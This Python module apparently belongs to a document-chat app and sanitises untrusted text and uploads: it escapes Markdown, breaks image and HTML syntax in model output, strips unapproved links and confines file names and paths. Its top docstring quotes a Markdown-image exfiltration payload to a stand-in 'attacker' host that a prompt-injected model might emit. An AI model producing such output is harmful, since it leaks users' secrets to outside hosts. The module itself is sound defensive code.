"""Making untrusted text safe to show in the page.

Documents, file names and model output are untrusted: a document can carry HTML, and a
prompt-injected model can write ``![x](https://attacker/?q=secret)``, which a Markdown
renderer would fetch the moment it is shown. Everything the page renders goes through
one of these functions first; the page never passes ``unsafe_allow_html``.
"""

from __future__ import annotations

import re
import unicodedata
from pathlib import Path

from app.engine.guard import LINK, MD_LINK  # the one definition of a link

# Characters with a meaning in Markdown or in Streamlit's extensions (":red[...]", "$math$").
_MARKDOWN_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$:])")

# Code spans and blocks, only to leave "$" alone inside them (a cosmetic choice: if this
# misjudges a span, the worst outcome is a stray backslash or a formula).
_CODE = re.compile(r"(```.*?(?:```|\Z)|~~~.*?(?:~~~|\Z)|`[^`\n]+`)", re.DOTALL)
# "![" opens an image; "<" before a letter, "/", "!" or "?" opens an HTML tag or comment.
_IMAGE = re.compile(r"!(?=\[)")
_TAG = re.compile(r"<(?=[A-Za-z/!?])")
_ZWSP = "\u200b"  # invisible, and breaks the syntax wherever it stands: prose or code

MAX_NAME_CHARS = 120
MAX_NAME_BYTES = 200  # file systems allow 255 bytes; 120 CJK characters are 360 in UTF-8


def escape_markdown(text: str) -> str:
    """Text shown exactly as written: every Markdown character backslash-escaped.

    For file names, titles and headings used in labels (expander labels render Markdown,
    images included).
    """
    text = "".join(ch if ch.isprintable() else " " for ch in str(text))
    return _MARKDOWN_SPECIAL.sub(r"\\\1", text)


def safe_markdown(text: str) -> str:
    """Model output as Markdown that cannot embed HTML or make the browser fetch a URL.

    Formatting (bold, lists, links, code) survives. A zero-width space after "!" stops
    image syntax (what remains is a link, loaded only if the reader clicks it) and after
    "<" stops HTML tags. This needs no Markdown parsing, so no trick of code spans or
    escapes can slip an image past it; in code the characters still look the same.
    """
    text = _TAG.sub("<" + _ZWSP, _IMAGE.sub("!" + _ZWSP, str(text)))
    parts = _CODE.split(text)
    # split() with one group: even indexes are prose, odd ones are code.
    return "".join(part if i % 2 else part.replace("$", "\\$") for i, part in enumerate(parts))




def only_links(text: str, allowed: list[str]) -> str:
    """``text`` with every link not in ``allowed`` made plain, unclickable text.

    The engine lists the links a cited source contains; any other link in model output
    (made up, or from a passage it did not rely on) must not be one click away. A Markdown
    link keeps its words; a bare URL is broken by a zero-width space so that it is not
    turned into a link (it still reads the same).
    """
    allowed_lower = {a.lower().rstrip(".,;:!?") for a in allowed}

    def ok(url: str) -> bool:
        return url.lower().rstrip(".,;:!?") in allowed_lower

    text = MD_LINK.sub(lambda m: m.group(0) if ok(m.group(2)) else m.group(1), str(text))
    return LINK.sub(lambda m: m.group(0) if ok(m.group(0)) else _break_link(m.group(0)), text)


def _break_link(url: str) -> str:
    return url.replace("://", ":" + _ZWSP + "//", 1).replace("www.", "www" + _ZWSP + ".", 1)


def highlighted(text: str, spans: list[tuple[int, int]]) -> str:
    """``text`` as escaped Markdown with the ``spans`` (start, end offsets) highlighted."""
    out, at = [], 0
    for start, end in sorted(spans):
        if start < at or end > len(text):
            continue
        out.append(_plain_block(text[at:start]))
        out.append(":orange-background[" + escape_markdown(" ".join(text[start:end].split())) + "]")
        at = end
    out.append(_plain_block(text[at:]))
    return "".join(out)


def _plain_block(text: str) -> str:
    """Escaped text whose line breaks survive Markdown (hard breaks)."""
    return "  \n".join(escape_markdown(line) for line in text.split("\n"))


def safe_markdown_piece(piece: str) -> str:
    """A streamed piece of model output, made safe on its own.

    Pieces arrive one token at a time and "!" may end one piece while "[" starts the next,
    so this cannot look ahead: it breaks every "!" and "<" (invisible either way). The page
    replaces the streamed text with ``safe_markdown`` of the whole answer once it is done.
    """
    return str(piece).replace("!", "!" + _ZWSP).replace("<", "<" + _ZWSP).replace("$", "\\$")


def safe_filename(name: str, default: str = "upload") -> str:
    """A file name that stays inside the folder it is saved in.

    Basename only (no path separators, no ``..``), no control or format characters, letters
    and digits of any script (``报告.pdf`` stays ``报告.pdf``) plus ``._ -``, not hidden (no
    leading dot), and a bounded length, in characters and in bytes, with the extension kept.
    """
    name = unicodedata.normalize("NFKC", str(name))
    name = re.split(r"[\\/]", name)[-1]  # basename, whichever separator the browser sent
    name = "".join(ch for ch in name if ch.isprintable())
    name = "".join(ch if _name_char(ch) else "_" for ch in name)
    name = re.sub(r"\.{2,}", ".", re.sub(r"\s+", " ", name))
    stem, dot, ext = name.rpartition(".")
    if not dot or not stem:  # no extension, or a hidden name (".bashrc"): all of it is the stem
        stem, ext = name, ""
    # The extension is split off first: a stem made only of replaced characters ("📄.txt")
    # becomes the default, and the extension survives.
    stem = stem.strip(" ._-") or default
    ext = ext.strip(" _-")[:16]
    stem = stem[: MAX_NAME_CHARS - len(ext) - 1]
    while len(f"{stem}.{ext}".encode()) > MAX_NAME_BYTES:
        stem = stem[:-1]
    return f"{stem}.{ext}" if ext else stem


def _name_char(ch: str) -> bool:
    """Letters, combining marks and digits of any script, and ``._ -``: nothing a shell,
    a path or a terminal gives a meaning to."""
    return ch in "._ -" or unicodedata.category(ch)[0] in "LMN"


def unique_path(folder: Path, name: str) -> Path:
    """``folder/name``, or ``folder/stem-2.ext`` ... when that name is taken."""
    candidate = folder / name
    stem, suffix = Path(name).stem, Path(name).suffix
    n = 2
    while candidate.exists():
        candidate = folder / f"{stem}-{n}{suffix}"
        n += 1
    return candidate


def file_inside(root: str | Path, relative: str | Path, allowed_roots: set[str]) -> Path | None:
    """The file ``root/relative`` if it is a regular file inside one of ``allowed_roots``.

    Symlinks are resolved first, so a link inside the root pointing outside it is refused.
    A path that cannot exist (a NUL byte, undecodable or over-long) is refused, not raised.
    """
    try:
        path = (Path(root) / relative).resolve()
        for allowed in allowed_roots:
            if path.is_relative_to(Path(allowed).resolve()) and path.is_file():
                return path
    except (ValueError, OSError):  # "embedded null byte", ENAMETOOLONG, a link loop
        return None
    return None


def downloadable_file(root: str, source: str, indexed: set[tuple[str, str]]) -> Path | None:
    """The file behind a source shown in the page, if it may be served for download.

    Sources come from saved answers in threads.sqlite, which anyone with the data folder can
    edit: only a document the index holds now, as (root, source), still inside its root
    after resolving links, is served.
    """
    if (str(root), str(source)) not in indexed:
        return None
    return file_inside(root, source, {str(root)})
